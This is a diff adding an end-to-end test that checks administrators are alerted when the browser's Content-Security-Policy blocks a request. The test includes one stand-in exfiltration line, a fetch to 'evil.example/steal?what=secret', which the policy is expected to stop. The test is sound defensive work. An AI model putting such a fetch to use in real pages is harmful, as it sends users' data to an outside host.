@@ -111,3 +111,18 @@ test('pages of who is signed in are kept nowhere', async ({ page, signedInAs }) 
 
   expect(response.headers()['cache-control']).toContain('no-store');
 });
+
+test('administrators read what a browser has stopped', async ({ faults, page, articlePage, colleague }) => {
+  faults.expect(/Content.Security.Policy/);
+  const priya = await colleague('priya');
+  await articlePage.open(published);
+
+  await page.evaluate(() => fetch('https://evil.example/steal?what=secret').catch(() => undefined));
+
+  await expect
+    .poll(async () => JSON.stringify(await priya.ask('alerts/list', {})))
+    .toContain('connect-src: https://evil.example');
+  const kept = JSON.stringify(await priya.ask('alerts/list', {}));
+  expect(kept).toContain(`on /articles/${published}`);
+  expect(kept).not.toContain('secret');
+});
